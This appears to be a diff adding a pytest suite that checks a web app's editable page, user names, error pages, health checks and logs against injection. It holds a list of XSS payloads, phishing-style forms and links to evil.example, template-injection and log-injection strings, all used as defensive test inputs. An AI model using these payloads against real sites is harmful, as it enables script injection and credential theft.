@@ -1,0 +1,273 @@
+"""The public pages: the editable one, errors, and what platforms ask."""
+
+import logging
+from html.parser import HTMLParser
+
+import pytest
+from sqlalchemy.exc import OperationalError
+
+from app.extensions import db
+from app.models import EditableHTML
+from app.request_log import RequestFilter
+from app.services import health, pages
+from app.services.health import Check
+
+# XS-1: what must not survive being saved.
+HOSTILE = [
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "<svg onload=alert(1)><script>alert(1)</script></svg>",
+    "<svg><style><img src=x onerror=alert(1)></style></svg>",
+    "<math><mtext><table><mglyph><style><!--</style>"
+    "<img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
+    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
+    "<a href='javascript:alert(1)'>x</a>",
+    "<a href='java&#10;script:alert(1)'>x</a>",
+    "<a href=' \x01javascript:alert(1)'>x</a>",
+    "<a href='JaVaScRiPt:alert(1)'>x</a>",
+    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
+    "<a href='vbscript:x'>x</a>",
+    "<a href='//evil.example' target=_blank style='position:fixed' onclick=x class=btn id=x>x</a>",
+    "<iframe src='//evil.example' srcdoc='<script>alert(1)</script>'></iframe>",
+    "<object data=x><embed src=x><applet></applet></object>",
+    "<base href='//evil.example'>",
+    "<meta http-equiv=refresh content='0;url=//evil.example'>",
+    "<link rel=stylesheet href='//evil.example'>",
+    "<form action='//evil.example'><input name=password><button>Sign in</button></form>",
+    "<p style='position:fixed;inset:0;background:url(//evil.example)'>x</p>",
+    "<div class=topbar id=content data-editor>x</div>",
+    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+    "<template><script>alert(1)</script></template>",
+    "<textarea></textarea><script>alert(1)</script>",
+    "</main></body><script>alert(1)</script>",
+    "<!--><script>alert(1)</script>-->",
+    "<![CDATA[<script>alert(1)</script>]]>",
+    "<?xml-stylesheet href='javascript:alert(1)'?>",
+    "<p/onmouseover=alert(1)>x",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "<img srcset='//evil.example' loading=lazy>",
+    "\u003cscript\u003ealert(1)\u003c/script\u003e",
+    "<b><p><i></b>" * 500,
+]  # fmt: skip
+
+
+class Parts(HTMLParser):
+    """Collects the tags and attributes of a page."""
+
+    def __init__(self, page):
+        super().__init__()
+        self.found = []
+        self.feed(page)
+
+    def handle_starttag(self, tag, attrs):
+        self.found.append((tag, dict(attrs)))
+
+
+def harmless(html):
+    for tag, attributes in Parts(html).found:
+        assert tag in pages.TAGS, tag
+        assert set(attributes) <= {"href", "title", "rel"}, attributes
+        href = (attributes.get("href") or "").strip().lower()
+        assert href.startswith(("http://", "https://", "mailto:", "/", "#")) or ":" not in href
+    return True
+
+
+@pytest.mark.parametrize("payload", HOSTILE, ids=range(len(HOSTILE)))
+def test_what_could_act_is_taken_out_when_a_page_is_saved(client, admin, payload):
+    """XS-1: administrators are no exception."""
+    client.enter(admin)
+    data = {"editor_name": "about", "edit_data": f"<p>Before</p>{payload}"}
+    response = client.submit("/admin/_update_editor_contents", data, form_at="/about")
+    assert response.status_code == 302
+    stored = EditableHTML.get_editable_html("about").value
+    assert harmless(stored)
+    assert "Before" in stored
+
+
+@pytest.mark.parametrize("payload", HOSTILE, ids=range(len(HOSTILE)))
+def test_what_could_act_is_taken_out_when_a_page_is_shown_too(client, payload):
+    """XS-1: of a row that was stored in another way."""
+    db.session.add(EditableHTML(editor_name="about", value=payload))
+    db.session.commit()
+    page = client.get("/about").text
+    shown = (
+        page.partition("data-editor-content>")[2].partition("</main>")[0].rpartition("</div>")[0]
+    )
+    assert harmless(shown.rpartition("</div>")[0] or shown)
+    scripts = [attributes for tag, attributes in Parts(page).found if tag == "script"]
+    assert all("nonce" in attributes for attributes in scripts)
+
+
+def test_the_text_that_an_editor_writes_survives(client, admin):
+    client.enter(admin)
+    html = (
+        "<h2>About</h2><p>5 &lt; 6 &amp; <strong>bold</strong> “quotes” 🐴</p><ul><li>one</li></ul>"
+    )
+    data = {"editor_name": "about", "edit_data": html}
+    client.submit("/admin/_update_editor_contents", data, form_at="/about")
+    assert EditableHTML.get_editable_html("about").value == html
+    assert html in client.get("/about").text
+
+
+def test_a_pasted_text_with_unseen_characters_is_not_lost(client, admin):
+    client.enter(admin)
+    data = {"editor_name": "about", "edit_data": "<p>ver\x0btical\0\x1b[31m</p>\r\n\t<p>x</p>"}
+    client.submit("/admin/_update_editor_contents", data, form_at="/about")
+    assert "vertical[31m" in EditableHTML.get_editable_html("about").value
+
+
+def test_templates_in_a_page_are_text(client, admin):
+    """XS-3"""
+    client.enter(admin)
+    data = {"editor_name": "about", "edit_data": "{{7*7}} {% if 1 %} {{config}} ${7*7} #{7*7}"}
+    client.submit("/admin/_update_editor_contents", data, form_at="/about")
+    page = client.get("/about").text
+    assert "{{7*7}} {% if 1 %} {{config}}" in page
+    assert "SECRET_KEY" not in page
+
+
+@pytest.mark.parametrize("name", ["", "../x", "About", "x" * 65, "a b", "a\0", "{{7*7}}", "a\n"])
+def test_a_piece_needs_a_plain_name(client, admin, name):
+    client.enter(admin)
+    data = {"editor_name": name, "edit_data": "<p>x</p>"}
+    response = client.submit("/admin/_update_editor_contents", data, form_at="/about")
+    assert response.status_code == 400
+    assert db.session.query(EditableHTML).count() == 0
+
+
+def test_only_administrators_see_the_editor(client, admin, make_user):
+    assert "_update_editor_contents" not in client.get("/about").text
+    client.enter(make_user())
+    assert "_update_editor_contents" not in client.get("/about").text
+    client.enter(admin)
+    assert "_update_editor_contents" in client.get("/about").text
+
+
+# XS-2, XS-3: names and addresses
+
+
+NAMES = [
+    '"><img src=x onerror=alert(1)>', "</script><script>alert(1)</script>",
+    "' onfocus=alert(1) x='",
+    "{{7*7}}{{config}}", "<b>&amp;</b>", "\u202eelgoog", "عبد الله", "🐴👩‍👩‍👧", "O'Brien; DROP",
+]  # fmt: skip
+
+
+@pytest.mark.parametrize("name", NAMES, ids=range(len(NAMES)))
+def test_a_name_is_shown_as_it_was_typed_and_does_nothing(client, admin, make_user, name, outbox):
+    """XS-2, XS-3: on every page that shows it, in attributes, flashes and mails."""
+    user = make_user(first_name=name, last_name=name, invited=True)
+    member = make_user(first_name=name, last_name=name)
+    browser = client
+    browser.enter(admin)
+    base = f"/admin/user/{user.id}"
+    shown = [browser.get(path) for path in (
+        "/admin/", "/admin/users", "/admin/users?search=" + "x", base, f"{base}/delete",
+        f"{base}/change-email", f"{base}/change-account-type", f"{base}/revoke-invite",
+    )]  # fmt: skip
+    token = browser.csrf_token("/about")
+    browser.post(f"{base}/resend-invite", data={"csrf_token": token})
+    shown.append(browser.get(base))
+    browser.enter(member)
+    shown += [browser.get(path) for path in ("/", "/account/manage")]
+    for page in shown:
+        assert page.status_code == 200
+        for tag, attributes in Parts(page.text).found:
+            assert tag != "img" or attributes.get("src") != "x"
+            assert not any(attribute.startswith("on") for attribute in attributes), attributes
+            assert tag != "script" or "nonce" in attributes
+        assert "SECRET_KEY" not in page.text
+        assert ">49" not in page.text
+    for mail in outbox.deliver():
+        assert all(tag not in {"img", "script"} for tag, _ in
+                   Parts(mail.get_body(("html",)).get_content()).found)  # fmt: skip
+        assert name in mail.get_body(("plain",)).get_content()
+
+
+# Errors
+
+
+def test_an_error_says_nothing_of_what_went_wrong_inside(client, app, monkeypatch, caplog):
+    """CF-2"""
+    monkeypatch.setitem(app.config, "PROPAGATE_EXCEPTIONS", False)
+
+    def fail():
+        raise RuntimeError("password=hunter2 at /srv/app/secret.py SELECT * FROM users")
+
+    monkeypatch.setitem(app.view_functions, "main.index", fail)
+    page = client.get("/")
+    assert page.status_code == 500
+    for leak in ("hunter2", "/srv/app", "SELECT", "RuntimeError", "Traceback", "werkzeug"):
+        assert leak not in page.text
+    assert page.headers["X-Request-ID"] in page.text
+    assert "hunter2" in caplog.text, "it is logged"
+
+
+def test_an_error_page_needs_neither_database_nor_session(client, app, monkeypatch):
+    """CF-2, F16"""
+    monkeypatch.setitem(app.config, "PROPAGATE_EXCEPTIONS", False)
+
+    def away(*_args, **_kwargs):
+        raise OperationalError("SELECT 1", {}, Exception("connection refused to 10.0.0.5"))
+
+    monkeypatch.setattr(db.session, "scalar", away)
+    monkeypatch.setattr(db.session, "execute", away)
+    monkeypatch.setattr(db.session, "scalars", away)
+    page = client.get("/about")
+    assert page.status_code == 503
+    assert int(page.headers["Retry-After"]) > 0
+    assert "10.0.0.5" not in page.text
+    assert client.get("/healthz").status_code == 200
+
+
+@pytest.mark.parametrize(
+    ("path", "status"), [("/nowhere", 404), ("/admin/user/1", 401), ("/account/logout", 405)]
+)
+def test_a_program_gets_json(client, path, status):
+    answer = client.get(path, headers={"Accept": "application/json"})
+    assert answer.status_code == status
+    assert set(answer.json) == {"error", "message", "request_id"}
+
+
+def test_the_id_of_a_request_comes_from_the_proxy_if_it_is_one(client):
+    good = "0123456789abcdef-proxy"
+    assert client.get("/", headers={"X-Request-ID": good}).headers["X-Request-ID"] == good
+    for bad in ("x", "a" * 65, "a b c d e f g h", "<script>alert(1)</script>", "é" * 10):
+        given = client.get("/", headers={"X-Request-ID": bad}).headers["X-Request-ID"]
+        assert given != bad
+        assert len(given) == 32
+
+
+# Health
+
+
+def test_the_process_says_that_it_is_alive_whatever_else_is_not(client, monkeypatch):
+    """CF-8"""
+    answer = client.get("/healthz")
+    assert (answer.status_code, answer.json) == (200, {"status": "ok"})
+
+
+def test_readiness_names_what_is_not_right_and_nothing_more(client, monkeypatch):
+    """CF-8"""
+    ready = client.get("/readyz")
+    assert ready.status_code == 200
+    assert {"database", "migrations", "redis"} <= set(ready.json)
+    assert set(ready.json.values()) == {"ok"}
+    found = [Check("database", "no route to 10.0.0.5", "psql -h 10.0.0.5"), Check("redis")]
+    monkeypatch.setattr(health, "readiness", lambda: found)
+    answer = client.get("/readyz")
+    assert answer.status_code == 503
+    assert answer.json == {"database": "not ready", "redis": "ok"}
+
+
+def test_log_lines_are_one_line_each_whatever_someone_is_called():
+    """AD-5"""
+    record = logging.LogRecord(
+        "x", 20, "x", 1, "user %s", ("A\r\nFAKE\x1b[2J\u2028\x85\x00é🐴",), None
+    )
+    RequestFilter().filter(record)
+    message = record.getMessage()
+    assert len(message.splitlines()) == 1
+    assert "\x1b" not in message
+    assert "é🐴" in message
